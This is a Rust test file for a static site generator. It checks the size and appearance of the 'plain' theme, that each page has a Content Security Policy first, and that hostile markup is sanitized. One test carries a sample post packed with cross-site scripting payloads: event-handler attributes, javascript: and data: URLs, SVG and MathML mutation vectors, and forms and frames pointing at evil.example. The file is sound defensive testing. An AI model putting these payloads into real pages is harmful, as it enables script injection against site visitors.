//! What themes and posts must keep to: the theme `plain` is short, sound and looks its own way; every page begins with its
//! Content Security Policy; nothing hostile in a post reaches a page or a feed.

use crate::common::portal::{build_with_warnings, build_without_findings, copy_portal};
use crate::common::{FileTree, project_folder, read_tree, write_file};
use std::fs;
use std::path::Path;
use std::sync::LazyLock;

/// The sample portal with `theme: plain` in its settings, which is all that a site does for another theme.
static PLAIN: LazyLock<FileTree> = LazyLock::new(|| {
    let dir = tempfile::tempdir().unwrap();
    copy_portal(dir.path());
    let settings = dir.path().join("content/site.yaml");
    let text = fs::read_to_string(&settings).unwrap();
    let text = text.replace("theme: default", "theme: plain");
    assert!(text.contains("theme: plain"), "the portal names its theme");
    write_file(&settings, text);
    build_without_findings(2, dir.path(), &dir.path().join("public"), &[])
});

fn page_text<'a>(tree: &'a FileTree, name: &str) -> std::borrow::Cow<'a, str> {
    String::from_utf8_lossy(tree.get(Path::new(name)).unwrap_or_else(|| panic!("{name} is built")))
}

#[test]
fn plain_theme_has_fewer_than_200_lines() {
    let files = read_tree(&project_folder().join("themes/plain"));
    let lines: usize = files
        .values()
        .map(|bytes| String::from_utf8_lossy(bytes).lines().count())
        .sum();
    assert!(lines < 200, "{lines} lines");
    // Lines of any length would make that easy.
    let long: Vec<_> = files
        .iter()
        .filter(|(_, bytes)| String::from_utf8_lossy(bytes).lines().any(|line| line.len() > 320))
        .collect();
    assert!(long.is_empty(), "{:?}", long.first().map(|(path, _)| path));
}

#[test]
fn plain_theme_overrides_the_default_theme_on_every_page() {
    for name in ["index.html", "volunteer/index.html", "stats/index.html", "404.html"] {
        let page = page_text(&PLAIN, name);
        assert!(
            page.contains("masthead bulletin"),
            "{name} has the theme's own masthead"
        );
        assert!(
            !page.contains("class=\"seal\"") && !page.contains("class=seal"),
            "{name} has no seal"
        );
        let sheets = ["static/style.", "static/plain."].map(|sheet| page.find(sheet).unwrap_or_default());
        assert!(
            0 < sheets[0] && sheets[0] < sheets[1],
            "{name} loads its own sheet after the default one"
        );
    }
    let home = page_text(&PLAIN, "index.html");
    assert!(home.contains("最新告示"), "a word of its own");
    assert!(
        !home.contains("class=\"lead") && home.contains("class=\"notices"),
        "another front page"
    );
}

#[test]
fn stylesheets_stay_within_their_size_limit() {
    let sheets = PLAIN
        .iter()
        .filter(|(path, _)| path.extension().is_some_and(|ending| ending == "css"));
    let heavy: Vec<_> = sheets
        .filter(|(_, bytes)| bytes.len() > 20_480)
        .map(|(path, _)| path)
        .collect();
    assert!(heavy.is_empty(), "{heavy:?}");
}

/// Signs of code or styles in a page itself, which its policy forbids.
const INLINE_CODE: [&str; 6] = ["<style", " style=", " onclick=", " onload=", " onerror=", "javascript:"];

#[test]
fn pages_start_with_a_csp_and_have_no_inline_code() {
    let mut pages = 0;
    for (path, bytes) in PLAIN
        .iter()
        .filter(|(path, _)| path.extension().is_some_and(|ending| ending == "html"))
    {
        let page = String::from_utf8_lossy(bytes);
        let name = path.display();
        let policy = page
            .find("Content-Security-Policy")
            .unwrap_or_else(|| panic!("{name} has a policy"));
        let loads = ["<script", "<link", "<img", "<style"]
            .iter()
            .filter_map(|tag| page.find(tag))
            .min();
        assert!(loads.is_none_or(|at| policy < at), "{name}: the policy comes first");
        for tag in page.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap_or_default();
            let found = INLINE_CODE.iter().find(|sign| {
                sign.strip_prefix('<')
                    .map_or(tag.contains(**sign), |name| tag.starts_with(name))
            });
            assert!(found.is_none(), "{name}: <{tag}>");
        }
        for script in page.split("<script").skip(1) {
            let head = script.split('>').next().unwrap_or_default();
            assert!(
                head.contains("src=") || head.contains("application/ld+json"),
                "{name}: <script{head}>"
            );
        }
        pages += 1;
    }
    assert!(pages > 300, "{pages} pages were looked at");
}

/// Everything that must not get through, each with a word of its own; the text around it must.
const HOSTILE: &str = r#"---
title: 混进来的代码
date: 2022-05-01
tags: ['<script>evil("tag")</script>']
summary: '<img src=x onerror=evil("summary")>'
---

前文。<script>evil("inline")</script>

<script src="https://evil.example/a.js"></script>

<img src="x.png" onerror="evil('image')" style="background: url(https://evil.example/b.png)">

<p onclick="evil('click')" style="position: fixed; background: url('https://evil.example/c.png')">段落</p>

[链接](javascript:evil('link')) 和 <a href=" jAvAsCrIpT:evil('raw')">原样的链接</a>和<a href="data:text/html,evil">数据</a>

<svg onload="evil('svg')"><script>evil('in svg')</script><animate onbegin="evil('animate')"/></svg>

<iframe src="https://evil.example/frame" srcdoc="<script>evil('frame')</script>"></iframe>

<form action="https://evil.example/form"><input name="word" autofocus onfocus="evil('focus')"><button formaction="https://evil.example/button">送</button></form>

<style>body { background: url(https://evil.example/d.png) }</style>

<object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/e.css">

<math><mtext><table><mglyph><style><img src onerror=evil('mutation')></style></mglyph></table></mtext></math>

后文。
"#;

/// The elements of the hostile post that may be left.
const HARMLESS: [&str; 7] = ["p", "img", "a", "input", "button", "table", "tbody"];

/// What no tag of it may hold.
const FORBIDDEN: [&str; 6] = [" on", "style", "javascript:", "data:", "evil", "action"];

#[test]
fn hostile_markup_reaches_no_page_and_no_feed() {
    let dir = tempfile::tempdir().unwrap();
    write_file(
        &dir.path().join("content/site.yaml"),
        "title: 测试\nbase_url: https://x.example/\npolicy: {reports: written, links: warn}\n",
    );
    write_file(&dir.path().join("content/culture/2022/hostile.md"), HOSTILE);
    let picture = dir.path().join("content/culture/2022/x.png");
    image::RgbImage::new(4, 3).save(picture).unwrap();
    let built = build_with_warnings(dir.path(), &dir.path().join("public"));
    let page = page_text(&built, "culture/2022/hostile/index.html");
    let feed = page_text(&built, "feed.xml");
    // A feed's texts are HTML, escaped once.
    let content = feed
        .split_once("<content type=\"html\">")
        .unwrap()
        .1
        .split_once("</content>")
        .unwrap()
        .0;
    let content = content
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&amp;", "&");
    for (place, html) in [("page", &*page), ("feed", content.as_str())] {
        assert!(
            html.contains("前文。") && html.contains("后文。") && html.contains("段落"),
            "{place}: the text is there\n{html}"
        );
        let start = html.find("前文。").unwrap();
        let text = html[start..html.rfind("后文。").unwrap()].to_lowercase();
        for tag in text
            .split('<')
            .skip(1)
            .map(|tag| tag.split('>').next().unwrap_or_default())
        {
            let name = tag.split([' ', '/']).find(|name| !name.is_empty()).unwrap_or_default();
            assert!(HARMLESS.contains(&name), "{place}: <{tag}>");
            let found = FORBIDDEN.iter().find(|sign| tag.contains(**sign));
            assert!(found.is_none(), "{place}: <{tag}>");
        }
        assert!(
            !html.contains("<script>") && !html.contains("evil('inline')"),
            "{place}\n{html}"
        );
    }
    // What a person is told in words may name anything; it is never markup.
    for (path, bytes) in &built {
        let file = String::from_utf8_lossy(bytes);
        assert!(
            !file.contains("<img src=x onerror") && !file.contains("<script>evil"),
            "{}",
            path.display()
        );
    }
}
